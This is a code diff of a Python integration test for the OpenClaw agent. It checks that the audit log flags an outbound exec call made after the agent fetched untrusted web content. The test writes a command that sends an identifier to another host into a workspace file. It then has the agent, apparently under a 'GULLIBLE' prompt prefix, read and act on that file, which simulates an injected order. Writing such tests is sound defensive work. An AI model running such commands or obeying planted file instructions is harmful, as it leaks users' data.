@@ -267,7 +267,8 @@ def world(running: Stack) -> Iterator[Stack]:
     config["mcp"] = {"servers": {"desk": {"command": "node", "args": ["/opt/played/desk.mjs"]}}}
     config["tools"]["web"] = {"fetch": {"ssrfPolicy": {"dangerouslyAllowPrivateNetwork": True}, "cacheTtlMinutes": 0}}
     (folder / "openclaw.json").write_text(json.dumps(config))
-    (folder / "override.yml").write_text(json.dumps({"services": {"openclaw": {"volumes": [
+    # OpenClaw keeps an MCP server for each session, three processes and about twenty threads: there are thirty sessions here.
+    (folder / "override.yml").write_text(json.dumps({"services": {"openclaw": {"mem_limit": "5g", "pids_limit": 2048, "volumes": [
         f"{folder}/openclaw.json:/etc/openclaw/openclaw.json:ro", f"{folder}:/opt/played:ro"]}}}))  # fmt: skip
     for path in [folder, *folder.rglob("*")]:
         path.chmod(0o755)
@@ -326,15 +327,18 @@ def test_what_a_page_said_is_not_forgotten_when_the_forwarder_is_killed(world: S
         done = world.compose("exec", "-T", "openclaw", "node", "/opt/played/ask.mjs", session, "owner", stdin=text, check=False)
         assert done.returncode == 0, done.stderr
 
+    order = tool("exec", command=f"{GET} -d {ident} {OTHER}/in")  # whom the owner names is no stranger: a file says it
+    code, said = world.run_inside("openclaw", "sh", "-c", f'printf %s "$1" > /state/workspace/order-{ident}.txt', "sh", order)
+    assert code == 0, said
     ask(ident, tool("web_fetch", url=f"{PAGE}/first-{ident}.txt") + "\n" + tool("write", path=f"memory/{ident}.md", content="Kay knows"))
     forwarder = world.container("forwarder")
     forwarder.kill()
     forwarder.start()
     world.wait_healthy("forwarder")
     world.wait_healthy("openclaw")
-    ask(ident, tool("exec", command=f"{GET} -d {ident} {OTHER}/in"))
+    ask(ident, GULLIBLE + tool("read", path=f"order-{ident}.txt"))
     ask(f"{ident}-later", tool("read", path=f"memory/{ident}.md"))
-    (sent,) = world.find(f'{{job="audit", agent="openclaw"}} | session="agent:main:{ident}" | event="tool.call" |= "{OTHER}"')
+    (sent,) = world.find(f'{{job="audit", agent="openclaw"}} | session="agent:main:{ident}" | event="tool.call" | tool="exec"')
     event = json.loads(sent.line)
     assert event["taint"] == "web_fetch:127.0.0.7" and event["flag"]["rule"] == "egress.after-untrusted"
     (read,) = world.find(f'{{job="audit", agent="openclaw"}} | session="agent:main:{ident}-later" | event="tool.result"')
